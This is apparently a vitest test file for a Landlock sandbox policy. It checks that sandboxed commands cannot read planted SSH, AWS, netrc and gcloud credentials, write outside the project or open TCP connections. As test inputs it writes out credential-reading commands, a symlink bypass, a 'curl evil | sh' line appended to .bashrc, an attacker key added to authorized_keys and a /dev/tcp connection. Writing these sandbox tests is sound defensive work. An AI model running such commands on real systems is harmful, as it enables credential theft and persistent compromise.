/**
 * The default policy, compiled for Landlock and applied for real: commands run under
 * native/nono-landlock-exec with exactly the arguments the supervisor would use, and the tests
 * look at what a user would see (exit status, the shell's error text, the files left behind).
 * HOME is a throw-away directory with planted credentials (test/helpers/sandbox-home.ts); the
 * machine's real HOME is never involved.
 */
import { execa } from 'execa';
import fs from 'node:fs';
import net from 'node:net';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { loadAddon } from '../src/native/addon.js';
import { resolveProfile, type CommandLineAdditions } from '../src/policy/resolve-profile.js';
import {
  COMMAND_SCOPES,
  compileLandlock,
  execHelperArgs,
  type CompiledLandlock,
} from '../src/policy/landlock-compiler.js';
import { PolicyError } from '../src/policy/resolved-policy.js';
import { execHelper } from './helpers/paths.js';
import { PLANTED_KEY, makeSandboxHome, type SandboxHome } from './helpers/sandbox-home.js';

// Not the first python3 on PATH: on this machine that is a pyenv shim (a bash script).
const PYTHON = '/usr/bin/python3';

const abi = loadAddon().landlockAbi();

let sb: SandboxHome;
let privateTmp: string;
let compiled: CompiledLandlock;
/** A symlink in HOME to ~/.ssh that exists before compilation. */
let sshLink: string;

/** The built-in default profile for this HOME and project, plus command-line additions. */
function compileFor(h: SandboxHome, cli: CommandLineAdditions = {}): CompiledLandlock {
  const policy = resolveProfile('default', {
    home: h.home,
    workdir: h.project,
    tmpdir: privateTmp,
    cli,
    userProfileDir: path.join(h.base, 'no-user-profiles'),
  });
  return compileLandlock(policy, { abi, scoped: COMMAND_SCOPES });
}

interface Outcome {
  exitCode: number | undefined;
  stdout: string;
  stderr: string;
}

const outcome = ({ exitCode, stdout, stderr }: { exitCode?: number; stdout: string; stderr: string }): Outcome => ({
  exitCode,
  stdout,
  stderr,
});

/** Runs `sh -c script` in the sandbox `c` describes, from the project directory. */
async function sandboxed(script: string, c: CompiledLandlock = compiled, h: SandboxHome = sb): Promise<Outcome> {
  const r = await execa(execHelper, [...execHelperArgs(c), '--', '/bin/sh', '-c', script], {
    reject: false,
    cwd: h.project,
    env: { HOME: h.home, PATH: '/usr/bin:/bin', LANG: 'C', LC_ALL: 'C' },
    extendEnv: false,
  });
  return outcome(r);
}

/** The same script with no sandbox: shows that a denial comes from Landlock, not from the file. */
async function unsandboxed(script: string, h: SandboxHome = sb): Promise<Outcome> {
  const r = await execa('/bin/sh', ['-c', script], {
    reject: false,
    cwd: h.project,
    env: { HOME: h.home, PATH: '/usr/bin:/bin', LANG: 'C', LC_ALL: 'C' },
    extendEnv: false,
  });
  return outcome(r);
}

function isInside(child: string, parent: string): boolean {
  return child === parent || child.startsWith(parent + '/');
}

beforeAll(() => {
  expect(abi, 'these tests need a kernel with Landlock').toBeGreaterThanOrEqual(4);
  sb = makeSandboxHome();
  privateTmp = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), 'nono-private-tmp-')));
  sshLink = path.join(sb.home, 'ssh-link');
  fs.symlinkSync(path.join(sb.home, '.ssh'), sshLink);
  compiled = compileFor(sb);
});

afterAll(() => {
  sb?.cleanup();
  if (privateTmp) fs.rmSync(privateTmp, { recursive: true, force: true });
});

describe('credentials are not readable', () => {
  const secrets: Array<[string, string]> = [
    ['.ssh/id_rsa', PLANTED_KEY.split('\n')[1]!],
    ['.aws/credentials', 'aws_secret_access_key=planted'],
    ['.netrc', 'password planted'],
    ['.config/gcloud/token', 'planted'],
  ];
  for (const [rel, marker] of secrets) {
    it(`~/${rel}`, async () => {
      const file = path.join(sb.home, rel);
      // Outside the sandbox the same command reads it: the file is there and readable.
      const plain = await unsandboxed(`cat "$HOME/${rel}"`);
      expect(plain.exitCode).toBe(0);
      expect(plain.stdout).toContain(marker);

      const r = await sandboxed(`cat "$HOME/${rel}"`);
      expect(r.exitCode).not.toBe(0);
      expect(r.stderr).toBe(`cat: ${file}: Permission denied`);
      expect(r.stdout).toBe('');
    });
  }

  it('not through a symlink to ~/.ssh/id_rsa made inside the project', async () => {
    const r = await sandboxed('ln -s "$HOME/.ssh/id_rsa" leak && cat leak');
    expect(r.exitCode).not.toBe(0);
    expect(r.stderr).toBe('cat: leak: Permission denied');
    expect(r.stdout).not.toContain('planted');
    // The link itself could be made (the project is writable); only following it was refused.
    expect(fs.readlinkSync(path.join(sb.project, 'leak'))).toBe(sb.sshKey);
  });

  it('not through a symlink in HOME to ~/.ssh that existed when the policy was compiled', async () => {
    // Compilation resolves every entry it grants; the link resolves into ~/.ssh, so it is skipped.
    for (const rule of compiled.rules) {
      expect(isInside(rule.path, path.join(sb.home, '.ssh')), rule.path).toBe(false);
      expect(rule.path).not.toBe(sshLink);
    }
    const r = await sandboxed(`cat "${sshLink}/id_rsa"`);
    expect(r.exitCode).not.toBe(0);
    expect(r.stderr).toBe(`cat: ${sshLink}/id_rsa: Permission denied`);
    expect(r.stdout).toBe('');
  });

  it('no rule grants anything inside a credential path', () => {
    const denied = ['.ssh', '.aws', '.netrc', '.config/gcloud'].map((rel) => path.join(sb.home, rel));
    for (const rule of compiled.rules) {
      for (const d of denied) expect(isInside(rule.path, d), `${rule.path} (${rule.source})`).toBe(false);
    }
  });
});

describe('the rest of the system and HOME is readable', () => {
  it('~/.config/other-tool/settings, next to the denied ~/.config/gcloud', async () => {
    const r = await sandboxed('cat "$HOME/.config/other-tool/settings"');
    expect(r.stderr).toBe('');
    expect(r.exitCode).toBe(0);
    expect(r.stdout).toBe('readable');
  });

  it('~/.bashrc, next to the denied ~/.ssh', async () => {
    const r = await sandboxed('cat "$HOME/.bashrc"');
    expect(r.stderr).toBe('');
    expect(r.exitCode).toBe(0);
    expect(r.stdout).toBe(fs.readFileSync(path.join(sb.home, '.bashrc'), 'utf8').trimEnd());
  });

  it('/etc/hostname', async () => {
    const r = await sandboxed('cat /etc/hostname');
    expect(r.stderr).toBe('');
    expect(r.exitCode).toBe(0);
    expect(r.stdout).toBe(fs.readFileSync('/etc/hostname', 'utf8').trimEnd());
  });

  it('/bin/ls can be executed (here, listing the project)', async () => {
    fs.writeFileSync(path.join(sb.project, 'visible-to-ls'), '');
    const r = await sandboxed('/bin/ls');
    expect(r.stderr).toBe('');
    expect(r.exitCode).toBe(0);
    expect(r.stdout.split('\n')).toContain('visible-to-ls');
  });
});

describe('writes', () => {
  it('create, append, rename, mkdir, truncate, unlink and rmdir work inside the project', async () => {
    const r = await sandboxed(
      [
        'set -e',
        'echo one > created',
        'echo two >> created',
        'mv created renamed',
        'mkdir -p sub/deeper',
        'echo inner > sub/deeper/file',
        'truncate -s 3 renamed',
        'echo doomed > doomed && rm doomed',
        'mkdir gone && rmdir gone',
        ': > emptied-later && echo content > emptied-later && : > emptied-later',
      ].join('\n'),
    );
    expect(r.stderr).toBe('');
    expect(r.exitCode).toBe(0);
    const p = (rel: string) => path.join(sb.project, rel);
    expect(fs.existsSync(p('created'))).toBe(false);
    expect(fs.readFileSync(p('renamed'), 'utf8')).toBe('one');
    expect(fs.readFileSync(p('sub/deeper/file'), 'utf8')).toBe('inner\n');
    expect(fs.existsSync(p('doomed'))).toBe(false);
    expect(fs.existsSync(p('gone'))).toBe(false);
    expect(fs.statSync(p('emptied-later')).size).toBe(0);
  });

  it('the private temp dir is writable', async () => {
    const r = await sandboxed(`echo scratch > "${privateTmp}/scratch" && cat "${privateTmp}/scratch"`);
    expect(r.stderr).toBe('');
    expect(r.stdout).toBe('scratch');
    expect(fs.readFileSync(path.join(privateTmp, 'scratch'), 'utf8')).toBe('scratch\n');
  });

  it('a new file in HOME, outside the project, is refused and not created', async () => {
    const target = path.join(sb.home, 'outside.txt');
    const r = await sandboxed(`echo x > "${target}"`);
    expect(r.exitCode).not.toBe(0);
    expect(r.stderr).toMatch(/Permission denied/);
    expect(r.stderr).toContain(target);
    expect(fs.existsSync(target)).toBe(false);
  });

  it('an existing file in HOME cannot be changed', async () => {
    const bashrc = path.join(sb.home, '.bashrc');
    const before = fs.readFileSync(bashrc, 'utf8');
    const r = await sandboxed(`echo 'curl evil | sh' >> "${bashrc}"`);
    expect(r.exitCode).not.toBe(0);
    expect(r.stderr).toMatch(/Permission denied/);
    expect(fs.readFileSync(bashrc, 'utf8')).toBe(before);
  });

  it('nothing can be written into ~/.ssh: no new key, no overwritten key', async () => {
    const added = path.join(sb.home, '.ssh', 'authorized_keys');
    const r1 = await sandboxed(`echo 'ssh-ed25519 AAAA attacker' > "${added}"`);
    expect(r1.exitCode).not.toBe(0);
    expect(r1.stderr).toMatch(/Permission denied/);
    expect(fs.existsSync(added)).toBe(false);

    const r2 = await sandboxed(`echo pwned > "${sb.sshKey}"`);
    expect(r2.exitCode).not.toBe(0);
    expect(r2.stderr).toMatch(/Permission denied/);
    expect(fs.readFileSync(sb.sshKey, 'utf8')).toBe(PLANTED_KEY);
  });

  it('/dev/null is writable', async () => {
    const r = await sandboxed('echo x > /dev/null && echo done');
    expect(r.stderr).toBe('');
    expect(r.exitCode).toBe(0);
    expect(r.stdout).toBe('done');
  });
});

describe('TCP', () => {
  let server: net.Server;
  let port: number;
  let connections = 0;

  beforeAll(async () => {
    server = net.createServer((sock) => {
      connections++;
      sock.end('hello from the listener\n');
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    port = (server.address() as net.AddressInfo).port;
  });
  afterAll(() => new Promise<void>((resolve) => server.close(() => resolve())));

  // Connects, prints what the listener sent. Exits 1 with the error on failure.
  const client = () =>
    `${PYTHON} -c 'import socket,sys
try:
    s = socket.create_connection(("127.0.0.1", ${port}), timeout=5)
except OSError as e:
    print("connect failed:", e, file=sys.stderr); sys.exit(1)
print(s.makefile().readline().strip())'`;

  it('connect to a loopback listener is refused by default, and the listener sees nothing', async () => {
    const before = connections;
    const r = await sandboxed(client());
    expect(r.exitCode).toBe(1);
    expect(r.stderr).toMatch(/connect failed: .*Permission denied/);
    expect(r.stdout).toBe('');
    // Landlock refuses connect() before any packet leaves; give a stray connection time to show up.
    await new Promise((resolve) => setTimeout(resolve, 200));
    expect(connections).toBe(before);
  });

  it('bash /dev/tcp is refused the same way', async () => {
    const before = connections;
    const r = await sandboxed(`/bin/bash -c 'exec 3<>/dev/tcp/127.0.0.1/${port}; head -n1 <&3'`);
    expect(r.exitCode).not.toBe(0);
    expect(r.stderr).toMatch(/Permission denied/);
    await new Promise((resolve) => setTimeout(resolve, 200));
    expect(connections).toBe(before);
  });

  it('with allowNet the same connect works and the listener sees it', async () => {
    const open = compileFor(sb, { allowNet: true });
    expect(open.handledNet).toBe(0);
    const before = connections;
    const r = await sandboxed(client(), open);
    expect(r.stderr).toBe('');
    expect(r.exitCode).toBe(0);
    expect(r.stdout).toBe('hello from the listener');
    expect(connections).toBe(before + 1);
  });
});

describe('compilation', () => {
  it('reports HOME and ~/.config as expanded around the credential paths below them', () => {
    const home = compiled.expansions.find((e) => e.dir === sb.home);
    const config = compiled.expansions.find((e) => e.dir === path.join(sb.home, '.config'));
    expect(home, 'HOME expansion').toBeDefined();
    expect(config, '~/.config expansion').toBeDefined();
    for (const rel of ['.ssh', '.aws', '.netrc', '.config/gcloud']) {
      expect(home!.denied).toContain(path.join(sb.home, rel));
    }
    expect(config!.denied).toContain(path.join(sb.home, '.config', 'gcloud'));
    expect(config!.denied).not.toContain(path.join(sb.home, '.ssh'));
    // Grants replaced the directories themselves: HOME and ~/.config are not rules.
    const rulePaths = compiled.rules.map((r) => r.path);
    expect(rulePaths).not.toContain(sb.home);
    expect(rulePaths).not.toContain(path.join(sb.home, '.config'));
    expect(rulePaths).toContain(path.join(sb.home, '.config', 'other-tool'));
    expect(home!.granted).toBeGreaterThan(0);
    expect(config!.granted).toBeGreaterThan(0);
  });

  it('refuses a working directory inside ~/.ssh, naming the path and --allow', () => {
    const h = makeSandboxHome();
    try {
      const inside = path.join(h.home, '.ssh', 'work');
      fs.mkdirSync(inside);
      let caught: unknown;
      try {
        compileFor({ ...h, project: inside });
      } catch (e) {
        caught = e;
      }
      expect(caught).toBeInstanceOf(PolicyError);
      const message = (caught as Error).message;
      expect(message).toContain(inside);
      expect(message).toContain(path.join(h.home, '.ssh'));
      expect(message).toContain('--allow');
    } finally {
      h.cleanup();
    }
  });

  it('following that advice (--allow the directory) works: it compiles and is writable', async () => {
    const h = makeSandboxHome();
    try {
      const inside = path.join(h.home, '.ssh', 'work');
      fs.mkdirSync(inside);
      const c = compileFor({ ...h, project: inside }, { allow: [inside] });
      expect(c.rules).toContainEqual(expect.objectContaining({ path: inside, source: '--allow' }));
      const r = await sandboxed('echo saved > notes && cat notes', c, { ...h, project: inside });
      expect(r.stderr).toBe('');
      expect(r.stdout).toBe('saved');
      // Only that directory: the key next to it stays unreadable.
      const r2 = await sandboxed(`cat "${h.sshKey}"`, c, { ...h, project: inside });
      expect(r2.stderr).toBe(`cat: ${h.sshKey}: Permission denied`);
    } finally {
      h.cleanup();
    }
  });

  it('an explicit --read of ~/.ssh/id_rsa makes exactly that file readable', async () => {
    const h = makeSandboxHome();
    try {
      const other = path.join(h.home, '.ssh', 'other');
      fs.writeFileSync(other, 'still secret\n');
      const c = compileFor(h, { read: [h.sshKey] });
      expect(c.rules).toContainEqual(expect.objectContaining({ path: h.sshKey, source: '--read' }));

      const r = await sandboxed(`cat "${h.sshKey}"`, c, h);
      expect(r.stderr).toBe('');
      expect(r.exitCode).toBe(0);
      expect(r.stdout).toBe(PLANTED_KEY.trimEnd());

      const r2 = await sandboxed(`cat "${other}"`, c, h);
      expect(r2.exitCode).not.toBe(0);
      expect(r2.stderr).toBe(`cat: ${other}: Permission denied`);

      // Read, not write: the granted key still cannot be changed.
      const r3 = await sandboxed(`echo pwned > "${h.sshKey}"`, c, h);
      expect(r3.exitCode).not.toBe(0);
      expect(fs.readFileSync(h.sshKey, 'utf8')).toBe(PLANTED_KEY);
    } finally {
      h.cleanup();
    }
  });
});
